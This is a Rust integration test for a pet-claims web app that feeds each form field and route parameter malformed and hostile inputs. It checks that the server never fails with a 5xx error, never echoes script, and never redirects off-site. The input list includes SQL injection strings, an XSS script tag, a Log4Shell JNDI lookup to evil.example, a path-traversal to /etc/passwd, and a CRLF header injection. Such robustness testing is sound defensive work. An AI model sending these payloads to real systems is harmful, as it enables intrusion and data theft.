//! Whatever stands in a field or an address, the server answers, and never with a mistake of its own.

mod common;

use app::on_both_engines;
use common::TestApp;
use common::book::book;
use common::functions::{Access, FUNCTIONS, borrowed};

/// What might stand in any field.
fn bad_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "\0",
        "Biscuit\0",
        "\u{202e}\u{feff}\u{200b}",
        "👩‍👩‍👧‍👦",
        "e\u{301}\u{301}\u{301}",
        "'; DROP TABLE pet; --",
        "\" OR 1=1 --",
        "%' ESCAPE '\\",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example}",
        "../../../etc/passwd",
        "00000000-0000-0000-0000-000000000000",
        "-1",
        "0",
        "NaN",
        "1e9",
        "12.345",
        "12,50",
        "999999999999999999999999999999",
        "9223372036854775807",
        "-9223372036854775808",
        "2026-02-30",
        "0000-00-00",
        "9999-12-31",
        "-9999-01-01",
        "99/99/9999",
        "null",
        "true",
        "[]",
        "{}",
        "\r\nSet-Cookie: session=x",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.extend(["x", "9", "é", "\u{1f436}", "\n"].map(|unit| unit.repeat(12_000)));
    texts
}

on_both_engines! {
    async fn no_text_in_any_field_is_a_mistake_of_ours(state: AppState) {
        let (book, app) = (book(&state, "Robin").await, TestApp::new(state));
        for function in FUNCTIONS.iter().filter(|function| function.access != Access::Anyone || function.path.contains("appearance")) {
            app.sign_in(&book.home).await;
            let good = function.naming(&book);
            for at in 0..good.len() {
                for text in bad_texts() {
                    let mut fields = borrowed(&good);
                    fields[at].1 = &text;
                    let answer = app.call(function.path, &fields).await;
                    let shown: String = text.chars().take(20).collect();
                    assert!(answer.status.as_u16() < 500, "{} with {}={shown:?}: {answer:?}", function.path, fields[at].0);
                    assert!(!answer.text().contains("<script>alert(1)"), "{} sends back what was typed", function.path);
                    assert!(answer.header("location").is_none_or(|to| to.starts_with('/') && !to.contains("evil")), "{answer:?}");
                }
                let fields: Vec<_> = borrowed(&good).into_iter().enumerate().filter(|(i, _)| *i != at).map(|(_, field)| field).collect();
                let answer = app.call(function.path, &fields).await;
                assert!(answer.status.as_u16() < 500, "{} without {}: {answer:?}", function.path, good[at].0);
                let twice: Vec<_> = borrowed(&good).into_iter().chain([(good[at].0, good[at].1.as_str())]).collect();
                let answer = app.call(function.path, &twice).await;
                assert!(answer.status.as_u16() < 500, "{} with {} twice: {answer:?}", function.path, good[at].0);
            }
        }
    }

    async fn no_address_is_a_mistake_of_ours(state: AppState) {
        let (book, app) = (book(&state, "Robin").await, TestApp::new(state));
        app.sign_in(&book.home).await;
        let ids = ["%00", "%FF%FE", "0", "-1", "%2e%2e", "%2F", "x".repeat(3000).leak(), "'%20OR%201=1--", "%F0%9F%90%95", "00000000-0000-0000-0000-000000000000", "{pet}"];
        let routes = leptos_axum::generate_route_list(app::routes::App);
        for route in routes.iter().map(|route| route.path()).filter(|path| path.contains('{')) {
            let (before, rest) = route.split_once('{').expect("a parameter");
            let after = rest.split_once('}').expect("its end").1;
            for id in ids {
                let answer = app.get(&format!("{before}{id}{after}")).await;
                assert!(answer.status.as_u16() < 500, "{before}{id}{after}: {answer:?}");
            }
        }
        for query in ["?__path=/api/auth/sign_in&__err=AAAA", "?__err=%00", "?next=%00", "?=&&&=%", "?page=-1&sort=x"] {
            for page in ["/", "/pets", "/claims", "/sign-in", "/help"] {
                let answer = app.get(&format!("{page}{query}")).await;
                assert!(answer.status.as_u16() < 500, "{page}{query}: {answer:?}");
            }
        }
    }
}
